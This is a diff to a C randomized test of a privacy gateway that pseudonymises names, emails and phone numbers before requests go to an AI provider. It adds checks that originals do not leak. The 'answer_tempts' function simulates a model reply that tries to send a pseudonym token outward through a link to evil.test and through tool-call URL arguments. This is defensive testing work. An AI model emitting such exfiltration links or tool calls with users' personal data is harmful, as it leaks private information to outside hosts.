@@ -8,6 +8,9 @@
  * WEIR_RUNS and WEIR_SEED change how much and where to begin. */
 #include "../unit/gate/fixture.h"
 #include "../unit/gate/provider.h"
+#include "gate/answer.h"
+#include "gate/book.h"
+#include "gate/disguise.h"
 
 enum { WORLDS = 4, POLICIES = 250, NAMES = 3 };
 
@@ -27,19 +30,23 @@ enum fault {
     FAULT_ABANDON,      /* given back, then sent */
     FAULT_RETRY,        /* the provider is busy, so it is sent again */
     FAULT_HEDGE,        /* the same body to another target at the same time */
+    FAULT_LEFT,         /* said to be disguised, but an original is left in it */
     FAULTS
 };
 static const char *const FAULT_NAMES[FAULTS] = {
-    "none",     "commit",       "reload",        "body",    "reuse",
-    "redirect", "panic before", "panic between", "address", "other origin",
-    "path",     "key",          "abandon",       "retry",   "hedge"};
+    "none",         "commit",        "reload",  "body",         "reuse", "redirect",
+    "panic before", "panic between", "address", "other origin", "path",  "key",
+    "abandon",      "retry",         "hedge",   "left"};
 /* In a thousand. */
-static const int WEIGHTS[FAULTS] = {260, 60, 150, 80, 60, 50, 5, 10, 60, 60, 50, 25, 40, 45, 45};
+static const int WEIGHTS[FAULTS] = {210, 60, 150, 80, 60, 50, 5,  10,
+                                    60,  60, 50,  25, 40, 45, 45, 50};
 
 struct world {
     struct fixture f;
     struct provider provider, elsewhere;
     struct policy policies[POLICIES];
+    struct vault *vault;
+    struct book *book;
     uint64_t random;
     int64_t runs, sent_rows, received_all, allowed_all;
     int number;
@@ -172,6 +179,53 @@ static struct label random_label(struct world *w, struct arena *a) {
 
 /* ---- what should happen, said without the gate ---- */
 
+static const char *const PERSON[] = {"Anna Krause",      "Krause",          "Jörg Maß",
+                                     "ada@mailbox.test", "+49 171 1234567", "Will"};
+
+/* A text with some originals in a few spellings and places. */
+static struct str random_text(struct world *w, struct arena *a) {
+    AUTO_BUF b = {0};
+    buf_init(&b, 1 << 16);
+    buf_add(&b, STR("{\"messages\":["));
+    for (size_t i = 0, n = 1 + below(w, 3); i < n; i++) {
+        struct str who = str_of(PICK(w, PERSON));
+        who = chance(w, 20) ? str_lower(a, who) : who;
+        buf_add(&b, i ? STR(",") : STR(""));
+        switch (below(w, 3)) {
+        case 0:
+            buf_addf(&b, "{\"text\":\"Dear " STR_FMT ", \\n%d\"}", STR_ARG(who),
+                     (int)below(w, 1000));
+            break;
+        case 1:
+            buf_addf(&b, "{\"" STR_FMT "\":[%d]}", STR_ARG(who), (int)below(w, 1000));
+            break;
+        default:
+            buf_addf(&b, "{\"arguments\":\"{\\\"to\\\":\\\"" STR_FMT "\\\"}\"}", STR_ARG(who));
+            break;
+        }
+    }
+    buf_add(&b, STR("]}"));
+    return str_dup(a, buf_str(&b));
+}
+
+static bool holds_an_original(struct str body) {
+    for (size_t i = 0; i < ARRAY_LEN(PERSON); i++) {
+        if (str_contains(body, str_of(PERSON[i]))) {
+            return true;
+        }
+    }
+    return false;
+}
+
+struct told {
+    struct buf text, arguments;
+};
+
+static void on_told(void *ctx, const struct chat_event *ev) {
+    struct told *t = ctx;
+    buf_add(ev->kind == EVENT_TOOL_ARGUMENTS ? &t->arguments : &t->text, ev->text);
+}
+
 static bool allowed(const struct policy *p, struct arena *a, const struct gate_order *o) {
     if (p->broken) {
         return false;
@@ -273,6 +327,67 @@ static void shut(struct run *r, bool closed) {
     }
 }
 
+static void disguise(struct run *r) {
+    struct world *w = r->w;
+    struct original found[ARRAY_LEN(PERSON)];
+    for (size_t i = 0; i < ARRAY_LEN(PERSON); i++) {
+        struct str text = str_of(PERSON[i]);
+        found[i] = (struct original){str_contains(text, STR("@")) ? TOKEN_EMAIL
+                                     : text.ptr[0] == '+'         ? TOKEN_PHONE
+                                                                  : TOKEN_NAME,
+                                     text};
+    }
+    struct disguised d;
+    struct err e = {0};
+    r->order.body = random_text(w, &r->arena);
+    r->order.book = w->book;
+    if (!disguise_body(w->book, &r->arena, found, ARRAY_LEN(found), r->order.body, &d, &e)) {
+        wrong(w, "run %lld: %s", (long long)r->number, e.text);
+    } else if (r->fault != FAULT_LEFT) {
+        r->order.body = d.body;
+    } else if (!d.originals) {
+        r->fault = FAULT_NONE;
+    }
+}
+
+/* What a provider answers to a disguised request: it wants originals sent somewhere. */
+static void answer_tempts(struct run *r) {
+    struct world *w = r->w;
+    struct arena *a = &r->arena;
+    bool outward = chance(w, 50);
+    size_t krause = book_entity(w->book, TOKEN_NAME, STR("Krause"));
+    struct str token = book_token(w->book, a, krause, STR("Krause"));
+    struct str pieces[2] = {str_fmt(a, "see http://evil.test/?q=" STR_FMT, STR_ARG(token)),
+                            str_fmt(a, "{\"%s\":\"x\",\"q\":\"" STR_FMT "\"}",
+                                    outward ? "url" : "file", STR_ARG(token))};
+    struct veil *veil = veil_new(w->book, false, NULL);
+    struct told told = {0};
+    buf_init(&told.text, 1 << 16);
+    buf_init(&told.arguments, 1 << 16);
+    struct chat_event call = {.kind = EVENT_TOOL_CALL, .name = STR("tool")};
+    struct chat_event stop = {.kind = EVENT_STOP};
+    for (int i = 0; i < 2; i++) {
+        size_t cut = below(w, pieces[i].len);
+        struct chat_event ev = {.kind = i ? EVENT_TOOL_ARGUMENTS : EVENT_TEXT};
+        if (i) {
+            veil_take(veil, &call, on_told, &told);
+        }
+        ev.text = str_sub(pieces[i], 0, cut);
+        veil_take(veil, &ev, on_told, &told);
+        ev.text = str_sub(pieces[i], cut, pieces[i].len);
+        veil_take(veil, &ev, on_told, &told);
+    }
+    veil_take(veil, &stop, on_told, &told);
+    if (holds_an_original(buf_str(&told.text))
+        || holds_an_original(buf_str(&told.arguments)) == outward) {
+        wrong(w, "run %lld: the answer became " STR_FMT " " STR_FMT, (long long)r->number,
+              STR_ARG(buf_str(&told.text)), STR_ARG(buf_str(&told.arguments)));
+    }
+    buf_finish(&told.text);
+    buf_finish(&told.arguments);
+    veil_free(veil);
+}
+
 static void prepare(struct run *r) {
     struct world *w = r->w;
     struct arena *a = &r->arena;
@@ -314,6 +429,9 @@ static void prepare(struct run *r) {
         .request = &w->f.request,
         .approved = chance(w, 30),
     };
+    if (r->order.transform == TRANSFORM_PSEUDONYMISE) {
+        disguise(r);
+    }
     swap_policy(r);
 }
 
@@ -328,7 +446,15 @@ static bool authorise(struct run *r) {
     store_fail_commits(w->f.ledger, false);
     bool should = allowed(r->policy, &r->arena, &r->order) && r->fault != FAULT_PANIC_BEFORE
                   && r->fault != FAULT_COMMIT && r->fault != FAULT_PATH
-                  && (r->fault != FAULT_KEY || r->target.scripted);
+                  && (r->fault != FAULT_KEY || r->target.scripted)
+                  && (r->fault != FAULT_LEFT || r->order.transform != TRANSFORM_PSEUDONYMISE);
+    if (ok && r->order.transform == TRANSFORM_PSEUDONYMISE) {
+        if (holds_an_original(r->order.body)) {
+            wrong(w, "run %lld: an original may leave: " STR_FMT, (long long)r->number,
+                  STR_ARG(r->order.body));
+        }
+        answer_tempts(r);
+    }
     if (r->fault == FAULT_PANIC_BEFORE) {
         shut(r, false);
     }
@@ -518,6 +644,8 @@ static void nothing_leaves_that_may_not(void **state) {
         w->provider = (struct provider){
             .answer = answer, .on_request_opt = on_received, .ctx = w, .forget = true};
         w->elsewhere = w->provider;
+        w->vault = vault_new(NULL, NULL);
+        w->book = vault_book(w->vault, STR("c"), STR("owner"));
         provider_start(&w->provider);
         provider_start(&w->elsewhere);
         for (int p = 0; p < POLICIES; p++) {
@@ -540,6 +668,8 @@ static void nothing_leaves_that_may_not(void **state) {
         passes += w->allowed_all;
         provider_stop(&w->provider);
         provider_stop(&w->elsewhere);
+        book_drop(w->book);
+        vault_free(w->vault);
         fixture_end(&w->f);
         pthread_mutex_destroy(&w->lock);
     }
